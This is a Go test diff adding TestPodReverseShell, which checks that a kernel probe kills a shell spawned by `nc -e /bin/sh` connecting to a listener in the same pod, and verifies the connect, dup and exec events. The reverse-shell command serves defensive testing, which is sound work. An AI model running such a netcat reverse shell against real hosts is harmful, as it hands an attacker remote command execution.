@@ -117,3 +117,47 @@ func TestPodDrift(t *testing.T) {
 		}
 	}
 }
+
+// TestPodReverseShell: `nc -e /bin/sh` from a container to a listener in
+// the same pod (the pod's own network namespace) execs a shell whose
+// stdio is a TCP socket; armed, the kernel kills that shell at exec.
+func TestPodReverseShell(t *testing.T) {
+	n := node.Start(t)
+	pod := n.CreatePod(t, node.PodSpec{Name: "revshell", Namespace: "probes",
+		Containers: []node.ContainerSpec{
+			{Name: "listener", Command: []string{"nc", "-ll", "-p", "4444", "-e", "/bin/cat"}},
+			{Name: "app"},
+		}})
+	p, err := probes.Load(probes.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { p.Close() })
+	cg := pod.CgroupID("app")
+	if err := p.SetWatched(cg, probes.KindsOf(probes.KindExec, probes.KindConnect, probes.KindDup), probes.KillReverseShell); err != nil {
+		t.Fatal(err)
+	}
+	c := collect(p, cg)
+
+	// nc connects, dups the socket onto 0-2 and execs sh, which is killed:
+	// nc -e replaces nc itself, so the exec'd command's fate is the exit code
+	_, code := pod.Exec(t, "app", "nc", "-w", "5", "127.0.0.1", "4444", "-e", "/bin/sh", "-c", "echo shell-ran")
+	if code != 137 {
+		t.Errorf("reverse shell exit %d, want 137 (SIGKILL)", code)
+	}
+	conn := c.waitFor(t, "connect", func(e *probes.Event) bool { return e.Kind == probes.KindConnect && e.Port == 4444 })
+	if conn.Addr.String() != "127.0.0.1" {
+		t.Errorf("connect to %v, want 127.0.0.1", conn.Addr)
+	}
+	c.waitFor(t, "dup of the socket onto stdin", func(e *probes.Event) bool {
+		return e.Kind == probes.KindDup && e.NewFD == 0 && e.Flags&probes.FlagInetStdio != 0
+	})
+	sh := c.waitFor(t, "exec of sh", func(e *probes.Event) bool { return e.Kind == probes.KindExec && e.Comm == "sh" })
+	if !sh.Killed() || sh.Flags&(probes.FlagStdinSock|probes.FlagInetStdio) != probes.FlagStdinSock|probes.FlagInetStdio {
+		t.Errorf("shell exec flags %#x, want killed with socket stdio", sh.Flags)
+	}
+	// a shell on ordinary stdio still runs
+	if out, code := pod.Exec(t, "app", "sh", "-c", "echo fine"); code != 0 || out != "fine\n" {
+		t.Errorf("plain shell: %q exit %d", out, code)
+	}
+}
